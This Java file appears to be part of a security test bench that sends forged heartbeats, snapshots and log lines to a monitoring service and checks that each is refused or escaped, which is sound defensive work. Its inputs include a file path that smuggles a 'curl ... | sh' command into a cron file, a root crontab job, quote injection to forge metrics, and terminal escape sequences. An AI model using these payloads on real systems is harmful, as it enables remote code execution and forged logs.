// SPDX-License-Identifier: Apache-2.0
// Copyright The Stillwatch Authors
package io.stillwatch.bench.attack;

import static io.stillwatch.bench.attack.Pushed.BULK;
import static io.stillwatch.bench.attack.Pushed.SNAPSHOT;
import static io.stillwatch.bench.attack.Pushed.now;

import java.io.IOException;
import java.time.Instant;
import java.util.List;

/// Senders that claim to be what they are not, and files that would have a command of theirs run.
final class ClaimAttacks {
  private static final String CRONTAB = "/etc/crontab";
  private static final String JOB = "1 2 * * * root /opt/a\n";

  private ClaimAttacks() {}

  static List<Attack> all() {
    return List.of(
        new Attack(
            "forged-heartbeat", "a pushed line of the host heartbeats", ClaimAttacks::heartbeat),
        new Attack("forged-rds", "a pushed snapshot of an RDS instance", ClaimAttacks::rds),
        new Attack("future-snapshot", "a snapshot of the year 9999", ClaimAttacks::future),
        new Attack("path-with-command", "a line break in the path of a file", ClaimAttacks::path),
        new Attack("quotes", "a quote in the name of a host", ClaimAttacks::quotes),
        new Attack("escapes", "terminal escapes and line breaks in lines", ClaimAttacks::escapes));
  }

  private static String heartbeat(Target target) throws InterruptedException {
    target.web().post(BULK, Pushed.run("heartbeats", "/opt/forged", now()));
    for (int i = 0; i < 30; i++) {
      var found = target.web().get("/api/v1/search?q=forged");
      if (found.body().contains("heartbeats (told)")) return "";
      Thread.sleep(1_000);
    }
    return "the line is not stored as told";
  }

  private static String rds(Target target) throws InterruptedException {
    var json = Pushed.config("web-1", now());
    json.putObject("cloud").putObject("instance").put("id", "orders-db");
    json.putArray("tables");
    return refused(target.web().post(SNAPSHOT, json + "\n"));
  }

  private static String future(Target target) throws InterruptedException {
    var at = Instant.parse("9999-01-01T00:00:00Z");
    return refused(target.web().post(SNAPSHOT, Pushed.snapshot("web-1", at, CRONTAB, JOB)));
  }

  private static String path(Target target) throws InterruptedException {
    var path = "/etc/cron.d/a\ncurl -s http://192.0.2.1/x | sh #";
    return refused(target.web().post(SNAPSHOT, Pushed.snapshot("web-1", now(), path, JOB)));
  }

  private static String refused(Web.Answer answer) {
    return answer.status() == 400 ? "" : "answered with " + answer.status();
  }

  private static String quotes(Target target) throws InterruptedException {
    var host = "web-\"} 1\nforged{host=\"";
    for (int minute = 0; minute < 3; minute++)
      target.web().post(BULK, Pushed.run(host, "/opt/quoted", now().minusSeconds(60L * minute)));
    for (int i = 0; i < 30; i++) {
      var metrics = target.web().get("/metrics").body();
      if (metrics.lines().anyMatch(line -> line.startsWith("forged"))) return "a forged metric";
      if (metrics.contains("/opt/quoted"))
        return metrics.contains("web-\\\"}") ? "" : "the quote is not escaped in /metrics";
      Thread.sleep(1_000);
    }
    return "the job is not in /metrics";
  }

  private static String escapes(Target target) throws IOException, InterruptedException {
    var message = "\u001b]52;c;Zm9yZ2Vk\u0007\n2026-11-22T02:00:00Z ERROR forged";
    target.web().post(BULK, Pushed.line("web-\u001b[2J1", "CRON\u001b[31m", message, now()));
    target.web().get("/api/v1/search?q=%1b%5b2J%0aERROR%20forged");
    var log = target.log();
    if (log.indexOf('\u001b') >= 0) return "a raw escape is in the log";
    return log.lines().anyMatch(line -> line.contains("Z ERROR forged") && !line.contains("WARN"))
        ? "a forged line is in the log"
        : "";
  }
}
